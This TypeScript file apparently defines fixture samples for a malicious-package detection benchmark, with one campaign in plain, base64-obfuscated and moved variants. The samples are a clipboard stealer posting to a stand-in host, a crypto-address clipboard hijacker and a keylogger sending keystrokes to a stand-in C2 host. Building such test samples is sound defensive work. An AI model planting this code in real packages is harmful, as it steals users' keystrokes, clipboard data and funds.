import { type Campaign, entry, tabled } from './kit.ts';

export const campaign: Campaign = {
  id: 'clipboard',
  row: 'capability: clipboard and key loggers',
  variants: [
    {
      concealment: 'plain',
      files: entry(`const clipboardy = require('clipboardy');
setInterval(() => {
  const text = clipboardy.readSync();
  if (text.length > 20) fetch('https://exfil.weir.test/c', { method: 'POST', body: text });
}, 1000);
module.exports = {};
`),
    },
    {
      concealment: 'obfuscated',
      files: entry(
        tabled(
          'base64',
          (h) => `const c = require(${h('clipboardy')});
setInterval(() => { const t = c[${h('readSync')}](); if (/^(0x[a-fA-F0-9]{40})$/.test(t)) c[${h('writeSync')}](${h(`0x${'12ef'.repeat(10)}`)}); }, 900);
module.exports = {};
`,
        ),
      ),
    },
    {
      concealment: 'moved',
      files: entry(`require('./lib/kb');\nmodule.exports = {};\n`, {
        'lib/kb.js': `const hook = require('iohook');
let keys = '';
hook.on('keydown', (event) => { keys += String.fromCharCode(event.rawcode); if (keys.length > 100) { fetch('https://c2.weir.test/k', { method: 'POST', body: keys }); keys = ''; } });
hook.start();
`,
      }),
    },
  ],
};
